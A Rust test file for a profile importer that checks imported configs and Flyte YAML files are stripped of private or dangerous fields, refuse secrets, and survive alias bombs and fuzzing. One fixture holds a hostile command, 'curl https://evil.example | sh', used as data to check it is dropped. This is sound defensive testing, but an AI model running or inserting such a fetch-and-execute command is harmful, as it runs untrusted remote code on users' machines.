//! What is taken from the files of others, what is not, and that none of them can do worse than be refused.

use std::path::Path;

use proptest::prelude::*;

use super::*;
use crate::preset::{FormFault, Preset};

fn import(file: &str, text: &str) -> Result<Imported> {
    Profile::import(text.as_bytes(), Path::new(file))
}

fn fields(left_out: &[LeftOut]) -> Vec<&str> {
    left_out.iter().map(|left| left.field.as_str()).collect()
}

/// The sentence and the hint of a refusal.
fn refusal(file: &str, text: &str) -> (String, String) {
    let error = import(file, text).expect_err(text);
    (error.message(), error.hint().to_owned())
}

const OWN: &str = r#"issuer = "https://login.example.com"
client_id = "desktop"
scopes = ["openid", "email"]
api = ["https://api.example.com/v1"]
ca_file = "/home/ada/company.pem"
allow_private_endpoints = true
browser = "firefox -P ada %s"

[authorization_parameters]
audience = "https://api.example.com"
login_hint = "ada@example.com"

[[templates]]
method = "GET"
path = "/me"
title = "Who am I"
"#;

#[test]
fn a_profile_travels_without_what_is_its_owners() -> Result<()> {
    let profile = Profile::parse(&"work".parse()?, OWN)?;
    let exported = profile.export();
    let left_behind = ["browser", "ca_file", "authorization_parameters.login_hint"];
    assert_eq!(fields(&exported.left_out), left_behind);
    for private in ["firefox", "ada", "company.pem"] {
        assert!(!exported.text.contains(private), "{}", exported.text);
    }
    let imported = import("work.toml", &exported.text)?;
    assert_eq!(fields(&imported.left_out), ["allow_private_endpoints"]);
    let rest = "issuer = \"https://login.example.com\"\nclient_id = \"desktop\"\nscopes = [\"openid\", \"email\"]\napi = [\"https://api.example.com/v1\"]\n[authorization_parameters]\naudience = \"https://api.example.com\"\n[[templates]]\nmethod = \"GET\"\npath = \"/me\"\ntitle = \"Who am I\"\n";
    let rest = Profile::parse(&"work".parse()?, rest)?;
    assert_eq!(imported.profile.to_toml(), rest.to_toml());
    assert_eq!(imported.profile.name(), rest.name());
    // Once it is there, it is no different from others.
    let again = import("again.toml", &imported.profile.export().text)?;
    assert_eq!(again.profile.to_toml(), rest.to_toml());
    assert_eq!(again.left_out, []);
    Ok(())
}

#[test]
fn a_profile_of_every_preset_travels_whole() -> Result<()> {
    for preset in Preset::all() {
        let required = preset.fields().filter(|field| field.required);
        let set: Vec<_> = required
            .map(|field| {
                let example = if field.example.is_empty() {
                    "abc"
                } else {
                    field.example
                };
                (field.name.to_owned(), example.to_owned())
            })
            .collect();
        let profile = preset.build(&"work".parse()?, &set);
        let profile = profile.map_err(FormFault::into_named)?;
        let exported = profile.export();
        let imported = import("work.toml", &exported.text)?;
        assert_eq!(imported.profile, profile, "{}", preset.id());
        assert_eq!((exported.left_out, imported.left_out), (vec![], vec![]));
    }
    Ok(())
}

#[test]
fn what_a_stranger_writes_cannot_reach_into_this_computer() -> Result<()> {
    let imported = import("work.toml", OWN)?;
    let profile = &imported.profile;
    assert_eq!(profile.browser(), None);
    assert_eq!(profile.ca_file, None);
    assert!(!profile.allow_private_endpoints);
    assert_eq!(
        fields(&imported.left_out),
        [
            "browser",
            "ca_file",
            "allow_private_endpoints",
            "authorization_parameters.login_hint"
        ]
    );
    assert!(imported.left_out.iter().all(|left| left.why.ends_with('.')));
    Ok(())
}

#[test]
fn secrets_are_refused_and_not_repeated() {
    for (file, text, line) in [
        (
            "work.toml",
            "issuer = \"https://a.example\"\nclient_secret = \"hunter2\"\n",
            2,
        ),
        (
            "work.toml",
            "issuer = \"https://a.example\"\n[authorization_parameters]\npassword = \"hunter2\"\n",
            3,
        ),
        (
            "config.yaml",
            "admin:\n  endpoint: dns:///flyte.example.com\n  clientSecret: hunter2\n",
            3,
        ),
    ] {
        let (message, hint) = refusal(file, text);
        assert!(
            message.contains(&format!("{file}, line {line}: ")),
            "{message}"
        );
        assert!(message.contains("secret"), "{message}");
        assert!(!format!("{message}{hint}").contains("hunter2"), "{message}");
    }
}

#[test]
fn a_config_file_of_flytes_becomes_a_profile() -> Result<()> {
    let text = r"
admin:
  # For GRPC endpoints you might want to use dns:///flyte.example.com
  endpoint: dns:///flyte.example.com
  insecure: false
  authType: Pkce
  clientId: my-client
  scopes: [all, offline, email]
  audience: https://flyte.example.com
storage:
  connection:
    secret-key: miniostorage
logger: { show-source: true, level: 0 }
";
    let imported = import("config.yaml", text)?;
    let profile = &imported.profile;
    assert_eq!(imported.left_out, []);
    assert_eq!(profile.name().as_str(), "flyte.example.com");
    assert_eq!(profile.preset().map(Preset::id), Some("flyte"));
    assert_eq!(profile.provider_host(), "flyte.example.com");
    assert_eq!(profile.client_id(), "my-client");
    assert_eq!(profile.scopes(), ["all", "offline", "email"]);
    assert!(
        profile
            .to_toml()
            .contains("audience = \"https://flyte.example.com\"")
    );
    assert!(!profile.to_toml().contains("miniostorage"));
    Ok(())
}

#[test]
fn flytes_addresses_are_those_of_grpc() -> Result<()> {
    for (endpoint, host) in [
        ("dns:///flyte.example.com", "flyte.example.com"),
        ("dns:///flyte.example.com:443", "flyte.example.com"),
        ("dns://10.0.0.1/flyte.example.com", "flyte.example.com"),
        (
            "passthrough:///flyte.example.com:8443",
            "flyte.example.com:8443",
        ),
        ("flyte.example.com", "flyte.example.com"),
        ("https://flyte.example.com/", "flyte.example.com"),
    ] {
        let imported = import("config.yaml", &format!("admin:\n  endpoint: {endpoint}\n"))?;
        assert_eq!(imported.profile.provider_host(), host, "{endpoint}");
    }
    let sandbox = "admin: { endpoint: 'dns:///localhost:30080', insecure: true, authType: Pkce }\n";
    let imported = import("config.yaml", sandbox)?;
    assert_eq!(imported.profile.home().as_str(), "http://localhost:30080/");
    Ok(())
}

#[test]
fn what_flyte_would_do_and_doorkey_does_not_is_told() -> Result<()> {
    let text = r"
admin:
  endpoint: dns:///flyte.example.com
  authType: DeviceFlow
  insecureSkipVerify: true
  caCertFilePath: /etc/company.pem
  command: [sh, -c, 'curl https://evil.example | sh']
  proxyCommand: []
  clientSecretLocation: /etc/secrets/client_secret
  maxRetries: 4
";
    let imported = import("config.yaml", text)?;
    assert_eq!(
        fields(&imported.left_out),
        [
            "admin.caCertFilePath",
            "admin.clientSecretLocation",
            "admin.command",
            "admin.insecureSkipVerify",
            "admin.authType",
        ]
    );
    let profile = imported.profile.to_toml();
    for other in ["evil", "pem", "secrets"] {
        assert!(!profile.contains(other), "{profile}");
    }
    Ok(())
}

#[test]
fn what_cannot_be_used_is_refused_with_its_line() {
    for (file, text, line, says) in [
        (
            "a.yaml",
            "admin:\n  endpoint: dns:///a.example\n  authType: ClientSecret\n",
            ", line 3",
            "not a person",
        ),
        (
            "a.yaml",
            "admin:\n  endpoint: dns:///a.example\n  authType: Kerberos\n",
            ", line 3",
            "ways to sign in",
        ),
        (
            "a.yaml",
            "admin:\n  endpoint: dns:///a.example\n  insecure: true\n",
            ", line 2",
            "without encryption",
        ),
        (
            "a.yaml",
            "admin:\n  endpoint: http://a.example\n",
            ", line 2",
            "without encryption",
        ),
        (
            "a.yaml",
            "admin:\n  endpoint: unix:///run/flyte\n",
            ", line 2",
            "address",
        ),
        (
            "a.yaml",
            "admin:\n  endpoint: dns:///user@a.example\n",
            ", line 2",
            "address",
        ),
        (
            "a.yaml",
            "admin:\n  insecure: false\n",
            "",
            "`admin.endpoint` is missing",
        ),
        (
            "a.yaml",
            "admin:\n  endpoint: [dns:///a.example]\n",
            ", line 2",
            "no config file",
        ),
        (
            "a.yaml",
            "admin:\n  endpoint: a\n  endpoint: b\n",
            ", line 3",
            "no config file",
        ),
        (
            "a.yaml",
            "admin:\n\tendpoint: a\n",
            ", line 2",
            "no config file",
        ),
        ("a.yaml", "logger: {}\n", "", "no section `admin`"),
        (
            "metadata",
            "{\"issuer\": \"https://a.example\"}",
            "",
            "no section `admin`",
        ),
        (
            "a.toml",
            "client_id = \"b\"\nissuer = 3\n",
            ", line 2",
            "invalid type",
        ),
        (
            "a.toml",
            "issuer = \"http://a.example\"\nclient_id = \"b\"\n",
            ", line 1",
            "not encrypted",
        ),
        (
            "a.toml",
            "issuer = \"https://a.example\"\nclient_id = \"b\"\nrun = \"x\"\n",
            ", line 3",
            "unknown field",
        ),
    ] {
        let (message, hint) = refusal(file, text);
        assert!(message.starts_with(&format!("{file}{line}: ")), "{message}");
        assert!(message.contains(says), "{message}");
        assert!(!hint.is_empty(), "{message}");
    }
    let large = vec![b'#'; CAP + 1];
    let error = Profile::import(&large, Path::new("a.toml")).expect_err("too large");
    assert!(error.message().contains("64 KiB"), "{}", error.message());
    let error = Profile::import(b"a = 1\n\xff", Path::new("a.toml")).expect_err("no text");
    assert!(error.message().contains("line 2"), "{}", error.message());
}

#[test]
fn a_bomb_of_aliases_costs_nothing() {
    let mut bomb = "a0: &a0 [x,x,x,x,x,x,x,x,x]\n".to_owned();
    for level in 1..12 {
        let alias = format!("*a{}", level - 1);
        let nine = vec![alias; 9].join(",");
        bomb.push_str(&format!("a{level}: &a{level} [{nine}]\n"));
    }
    bomb.push_str("admin: { endpoint: *a11 }\n");
    let deep = format!("admin: {}", "[".repeat(20_000));
    let toml = format!("a = {}", "[".repeat(20_000));
    for (file, text) in [("a.yaml", bomb), ("b.yaml", deep), ("c.toml", toml)] {
        let (message, _) = refusal(file, &text);
        assert!(message.contains(", line "), "{message}");
    }
}

#[test]
fn the_content_decides_where_the_name_does_not() -> Result<()> {
    let toml = "# mine\n\nissuer = \"https://a.example\"\nclient_id = \"b\"\n";
    let yaml = "---\nadmin:\n  endpoint: dns:///a.example?\n";
    assert!(is_toml(toml, Path::new("profile")));
    assert!(is_toml("[endpoints]\n", Path::new("profile.txt")));
    assert!(!is_toml(yaml, Path::new("config")));
    assert!(!is_toml("admin: {a: 'x = y'}\n", Path::new("config")));
    for (file, name) in [
        ("Team.toml", "team"),
        ("config.toml", "a.example"),
        ("My Team.toml", "a.example"),
        ("con.toml", "a.example"),
    ] {
        assert_eq!(import(file, toml)?.profile.name().as_str(), name);
    }
    let port = "issuer = \"http://127.0.0.1:4180\"\nclient_id = \"b\"\n";
    let imported = import("My Team", port)?;
    assert_eq!(imported.profile.name().as_str(), "127.0.0.1-4180");
    let host = "a".repeat(63);
    let long = format!("issuer = \"https://{host}.example\"\nclient_id = \"b\"\n");
    assert_eq!(import("My Team", &long)?.profile.name().as_str(), NAMELESS);
    Ok(())
}

fn piece() -> impl Strategy<Value = String> {
    let known = prop::sample::select(vec![
        "admin",
        "endpoint",
        "authType",
        "Pkce",
        "issuer",
        "client_id",
        "[endpoints]",
        "dns:///a.example",
        "https://a.example",
        "browser",
        "\"",
        "'",
        ":",
        ": ",
        " = ",
        "\n",
        "\n  ",
        "- ",
        "{",
        "}",
        "[",
        "]",
        "&a ",
        "*a",
        "<<",
        "!!str ",
        "---\n",
        "|\n",
        "%",
        "#",
        ",",
        "\t",
        "\u{feff}",
        "\u{202e}",
        "\0",
    ]);
    prop_oneof![known.prop_map(str::to_owned), "\\PC{0,8}"]
}

proptest! {
    /// Whatever a file holds, it is a profile that holds nothing of what may not travel, or a sentence with a hint.
    #[test]
    fn no_file_does_worse_than_be_refused(
        pieces in prop::collection::vec(piece(), 0..40),
        file in prop::sample::select(vec!["a.toml", "config.yaml", "a"]),
    ) {
        match import(file, &pieces.concat()) {
            Ok(imported) => prop_assert!(imported.profile.browser().is_none()),
            Err(error) => {
                prop_assert!(error.message().starts_with(file), "{}", error.message());
                prop_assert!(!error.hint().is_empty());
            }
        }
    }

    #[test]
    fn no_bytes_do_worse_either(bytes in prop::collection::vec(any::<u8>(), 0..400)) {
        for file in ["a.toml", "a.yaml", "a"] {
            if let Err(error) = Profile::import(&bytes, Path::new(file)) {
                prop_assert!(error.message().starts_with(file));
            }
        }
    }
}
